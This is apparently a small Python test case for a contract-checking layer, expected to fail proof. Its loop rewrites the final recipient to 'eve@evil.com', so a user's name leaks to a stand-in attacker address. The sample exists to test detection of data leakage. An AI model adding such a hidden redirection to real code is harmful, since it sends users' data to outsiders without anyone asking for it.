# not proved: the second round reads what the first one wrote
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import names, send_email, users


@lictor_layer.guarantee(c.to_users())
def main() -> None:
    addresses = [user.email for user in users()]
    for name, address in zip(names(), addresses):
        send_email(address, name)
        addresses[-1] = "eve@evil.com"
